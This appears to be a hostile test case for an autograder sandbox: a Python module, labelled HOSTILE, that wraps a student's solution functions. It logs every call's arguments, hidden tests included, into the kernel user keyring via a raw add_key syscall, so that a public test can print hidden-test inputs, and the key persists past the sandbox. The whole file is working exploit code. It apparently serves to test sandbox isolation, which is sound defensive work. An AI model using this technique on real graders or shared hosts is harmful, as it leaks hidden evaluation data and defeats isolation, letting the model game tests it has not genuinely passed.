# HOSTILE base=solution
"""Attack: leak hidden-test inputs into a *visible* report.  Runners of one student
share a uid, and the kernel key rings are per uid, not per namespace: every call this
module gets (hidden tests included; the test is named by the per-test seed, which is
sha256 of its node id) is logged into a key of the user key ring.  The lesson-01 runner
reads it back and prints it during a public test, whose output is shown to the student.
The key also outlives the runner and the grader run (residue outside the sandbox)."""
import ctypes as _ct
import torch as _torch

_libc = _ct.CDLL(None, use_errno=True)
_LOG = []


def _publish():
    data = "\n".join(_LOG).encode()[-15000:]
    _libc.syscall(248, b"user", b"hostile-exfil", data, len(data), _ct.c_int(-4))  # add_key(@u)


def _spy(fn):
    def wrapper(*args, **kwargs):
        _LOG.append(f"{_torch.initial_seed()} {fn.__name__}{args!r:.80}{kwargs if kwargs else ''}")
        _publish()
        return fn(*args, **kwargs)
    wrapper.__name__ = fn.__name__
    return wrapper


sign = _spy(sign)  # noqa: F821 (from the prepended solution)
greet = _spy(greet)  # noqa: F821
vector_add_loop = _spy(vector_add_loop)  # noqa: F821
vector_add = _spy(vector_add)  # noqa: F821
